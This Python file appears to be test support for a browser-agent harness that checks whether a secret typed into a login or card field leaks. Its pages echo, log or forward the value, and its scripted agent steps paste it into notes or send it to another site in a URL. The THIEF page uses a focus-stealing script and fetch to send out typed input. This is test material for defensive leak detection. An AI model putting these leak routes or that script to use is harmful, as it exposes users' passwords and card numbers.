"""The pages of `canaries.py`, which show a value again, and the models that ask for it."""

from __future__ import annotations

import base64
import html
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from attackers import Call, Site, controls, reply

FIELD = {
    "password": "<label>Code <input name=code type=password></label>",
    "card": "<label>Code <input name=code autocomplete=cc-number></label>",
    "shown": "<label>Code <input name=code type=password></label><button type=button onclick=\"document.querySelector('input').type='text'\">Show</button>",
}
REWRITES = {
    "groups of four": "this.value = this.value.replace(/\\W/g, '').replace(/(.{4})(?=.)/g, '$1 ')",
    "parted by dashes": "this.value = this.value.replace(/-/g, '').split('').join('-')",
    "reversed": "this.value = this.value.split('').reverse().join('')",
    "cut": "this.value = this.value.slice(0, 12)",
    "shown beside it": "document.querySelector('p').textContent = 'You typed ' + this.value.replace(/(.{4})/g, '$1 ')",
    "shown in part": "document.querySelector('p').textContent = 'It begins with ' + this.value.slice(0, 8)",
    "in elements of their own": "document.querySelector('p').innerHTML = this.value.match(/.{1,4}/g).map(x => '<b>' + x + '</b>').join(' ')",
    "in the title": "document.title = this.value",
    "in a tooltip": "this.title = this.value",
    "in the address": "history.replaceState(0, '', '?draft=' + encodeURIComponent(this.value))",
    "in base64": "document.querySelector('p').textContent = btoa(unescape(encodeURIComponent(this.value)))",
    "in the console": "console.log(this.value); console.error(new Error(this.value))",
}
DIALOGS = ("alert", "confirm", "prompt")


@dataclass(frozen=True, slots=True)
class Plan:
    """The plan of one run."""

    number: int
    page: str
    model: str
    field: str
    kind: str
    value: str


def fours(value: str) -> list[str]:
    """Returns the letters and digits of a value in groups of four."""
    return re.findall(r".{1,4}", re.sub(r"\W", "", value))


def pages(plan: Plan, away: Site) -> dict[str, Any]:
    """Returns the pages that home serves."""
    field, action, method, after = FIELD[plan.field], "/in", "post", "<title>In</title>Welcome"
    script = REWRITES.get(plan.page, f"{plan.page}(this.value)" if plan.page in DIALOGS else "")
    value = plan.value
    match plan.page:
        case "GET form":
            method = "get"
        case "form elsewhere":
            action = f"{away.url}/take"
        case "exception":
            script = "throw new Error('bad value ' + this.value)"
        case "download":
            script = "const a = document.createElement('a'); a.download = this.value + '.txt'; a.href = 'data:text/plain,hi'; document.body.append(a); a.click()"
        case "boxes":
            field = (
                '<input name=code maxlength=4 autocomplete=cc-number oninput="this.nextElementSibling?.focus()">' * 4
            )
        case "error page":
            after = (500, {}, f"<title>Error</title>Traceback: invalid value {html.escape(value)!s}")
        case "echo":
            after = f"<title>In</title>You are {html.escape(value)}<input value=\"{html.escape(value)}\"><a href='/x?u={quote(value, safe='')}'>Next</a>"
        case "encoded echo":
            forms = (
                quote(value, safe=""),
                base64.b64encode(value.encode()).decode(),
                html.escape(html.escape(value)),
                html.escape(json.dumps(value)),
            )
            after = "<title>In</title>" + "".join(f"<p>{form}</p>" for form in forms)
        case _:
            after = answer_with(plan.page, fours(value), away) or after
    if script:
        field = field.replace("<input name=code", f'<input name=code onchange="{html.escape(script)}"', 1)
    frame = f"<iframe src={away.url}/></iframe>" if plan.page == "frame" else ""
    form = f"<form action='{action}' method={method}>{field}<button>Send</button></form>"
    note = "<textarea aria-label=Note></textarea><input aria-label=Search type=search>"
    page = f"<title>Log in</title>{form}{note}<p></p><a href='/note'>Notes</a><a href='{away.url}/'>Help</a>{frame}"
    return {
        "/": page,
        "/in": after,
        "/note": f"<title>Notes</title><form method=post action=/save>{note}<button>Save</button></form>",
    }


def answer_with(page: str, groups: list[str], away: Site) -> Any:
    """Returns an answer that shows a value in groups or in cells, or that sends it on; nothing for other pages."""
    plain, cells = "".join(groups), "".join(f"<td>{each}</td>" for each in groups)
    wide = "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in plain)
    boxes = "".join(f"<input value='{each}'>" for each in groups)
    return {
        "echo in groups": f"<title>{'-'.join(groups)}</title><p>{' '.join(groups)}</p><p>{plain.swapcase()}</p><p>{wide}</p>"
        f"<a href='/x?u={quote(' '.join(groups))}' title='{'.'.join(groups)}'>Next</a>",
        "echo in cells": f"<title>In</title><table><tr>{cells}</tr></table>{boxes}",
        "redirected": (307, {"Location": f"{away.url}/take"}, ""),
    }.get(page, "")


THIEF = """<title>Help</title><form method=post action=/take><input type=password name=code><input name=more aria-label=More><button>Go</button></form>
<script>const t = document.querySelector('[name=more]'); setInterval(() => { if (parent != self) t.focus(); if (t.value) fetch('/got?' + t.value) }, 5)</script>"""


def script_of(plan: Plan, away: Site) -> Callable[[int, str], dict[str, Any]]:
    """Returns the model's answer in a step, from the number of the step and the text that the model was sent."""
    ref = {"value": "{{code}}"}

    def fill(shown: str, tool: str = "fill") -> Call:
        return tool, {"element_id": (controls(shown, "input") or ["input-0"])[0], **ref}

    def each(shown: str, *tools: str) -> list[Call]:
        return [
            (tool, {"element_id": one, **ref}) for one in controls(shown, "input", "textarea")[:5] for tool in tools
        ]

    def button(shown: str) -> Call:
        return "click", {"element_id": (controls(shown, "button") or ["button-0"])[-1 if plan.field == "shown" else 0]}

    def keys(*names: str) -> list[Call]:
        return [("press", {"element_id": "input-0", "key": name}) for name in names]

    steps: dict[str, list[Callable[[str], list[Call]]]] = {
        "honest": [lambda s: [fill(s)], lambda s: [button(s)], lambda _: [("expect", {"text": "Welcome"})]],
        "every field": [lambda s: each(s, "fill"), lambda s: each(s, "type", "append"), lambda s: [button(s)]],
        "copy and paste": [
            lambda s: [fill(s), *keys("Control+a", "Control+c", "Control+x", "Control+Insert")],
            lambda _: [("navigate", {"url": "/note"})],
            lambda _: [("click_with", {"element_id": "textarea-0", "button": "middle"})],
            lambda _: [("press", {"element_id": "textarea-0", "key": key}) for key in ("Control+v", "Shift+Insert")],
        ],
        "read it": [
            lambda s: [fill(s), ("read", {"element_id": "input-0"}), ("expect_value", {"element_id": "input-0", **ref})],
            lambda _: [("expect", {"text": "{{code}}"}), ("expect_value", {"element_id": "input-0", "value": "x"})],
            lambda s: [button(s), ("read", {"find": "{{code}}"}), ("wait", {"text": "{{code}}", "seconds": 1})],
        ],
        "in a URL": [
            lambda s: [fill(s)],
            lambda _: [("navigate", {"url": f"{away.url}/?c={{{{code}}}}"})],
            lambda _: [("navigate", {"url": "/?c={{code}}"}), ("expect_url", {"url": "{{code}}"})],
        ],
        "keys": [lambda s: [fill(s, "type"), *keys("Backspace", "End", "x", "Home", "y")], lambda _: keys("Delete"), lambda s: [button(s)]],
        "say it": [lambda s: [fill(s), ("fill", {"element_id": "textarea-0", "value": "My code is {{code}}"})], lambda s: [button(s)]],
        "elsewhere": [
            lambda s: [fill(s), ("click", {"element_id": "a-1"})],
            lambda s: each(s, "fill", "type"),
            lambda s: [button(s)],
        ],
        "search for it": [
            lambda s: [fill(s)],
            lambda s: [button(s)],
            lambda _: [(tool, {"text": "{{code}}"}) for tool in ("scroll", "select_text")],
            lambda _: [("expect_request", {"path": "/in", "values": {"code": "{{code}}"}}), ("expect_count", {"text": "{{code}}", "count": 1})],
        ],
        "select it": [
            lambda s: [fill(s), ("select_text", {"element_id": "input-0", "text": "{{code}}"}), ("press", {"key": "Control+c"})],
            lambda _: [("click", {"element_id": "textarea-0"}), ("press", {"key": "Control+v"})],
            lambda s: [("drag", {"element_id": "input-0", "onto": "textarea-0"}), button(s)],
        ],
    }  # fmt: skip

    def answer(number: int, shown: str) -> dict[str, Any]:
        if number >= len(steps[plan.model]):
            return reply(("fail", {"reason": "done with {{code}}"}))
        calls = steps[plan.model][number](shown) or [("wait", {"seconds": 0.1})]
        return reply(*calls, message="the code is {{code}}", reason="use {{code}}")

    return answer
